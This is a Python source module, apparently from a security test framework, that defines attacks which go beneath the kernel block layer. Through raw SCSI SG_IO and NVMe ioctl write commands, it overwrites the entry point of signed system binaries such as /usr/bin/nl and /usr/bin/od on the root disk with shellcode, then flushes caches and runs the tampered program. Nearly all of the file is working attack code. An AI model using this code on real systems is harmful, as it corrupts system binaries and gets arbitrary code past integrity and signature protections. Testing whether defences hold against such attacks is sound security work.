# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks from below that go past the block layer: commands that a device executes as they are."""

import ctypes
import fcntl
import os
import struct
from pathlib import Path

from arena import SHELLCODE, attack, drop_caches, entry_offset
from disks import PAGE, block_of, forget, root_device

SECTOR = 512
SG_IO, TO_DEVICE, FROM_DEVICE = 0x2285, -2, -3
NVME_IOCTL_SUBMIT_IO, NVME_WRITE, NVME_READ = 0x40304E42, 1, 2


def scsi(fd, write, block, buffer):
    """READ(10) or WRITE(10) of whole sectors through SG_IO."""
    command = ctypes.create_string_buffer(
        struct.pack(">BBIBHB", 0x2A if write else 0x28, 0, block, 0, len(buffer) // SECTOR, 0))
    sense = ctypes.create_string_buffer(64)
    fcntl.ioctl(fd, SG_IO, bytearray(struct.pack(
        "@iiBBHIPPPIIiPBBBBHHiII", ord("S"), TO_DEVICE if write else FROM_DEVICE, 10, 64, 0, len(buffer),
        ctypes.addressof(buffer), ctypes.addressof(command), ctypes.addressof(sense), 20000, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0, 0, 0) + bytes(4)))


def nvme(fd, write, block, buffer):
    """A read or write of whole sectors as the controller takes them."""
    fcntl.ioctl(fd, NVME_IOCTL_SUBMIT_IO, bytearray(struct.pack(
        "=BBHHHQQQIIHH", NVME_WRITE if write else NVME_READ, 0, 0, len(buffer) // SECTOR - 1, 0, 0,
        ctypes.addressof(buffer), block, 0, 0, 0, 0) + bytes(4)))


def rewrite(scene, submit, path):
    """Have a signed program's entry point overwritten by the device itself, and run it."""
    _, disk, start = root_device()
    scene.maybe([path])
    at = start + block_of(path, entry_offset(Path(path).read_bytes()))
    page = at // PAGE * PAGE
    buffer = ctypes.create_string_buffer(PAGE)
    fd = scene.tried(os.open, disk, os.O_RDWR)
    if fd:
        submit(fd, False, page // SECTOR, buffer)
        ctypes.memmove(ctypes.addressof(buffer) + at - page, SHELLCODE, len(SHELLCODE))
        scene.tried(submit, fd, True, page // SECTOR, buffer)
        os.close(fd)
    forget(path)
    drop_caches(1)
    return scene.runs(path)


@attack()
def scsi_command(scene):
    """WRITE(10) given to the SCSI disk by SG_IO."""
    return rewrite(scene, scsi, "/usr/bin/nl")


@attack()
def nvme_command(scene):
    """A write given to the NVMe controller by its own ioctl."""
    return rewrite(scene, nvme, "/usr/bin/od")
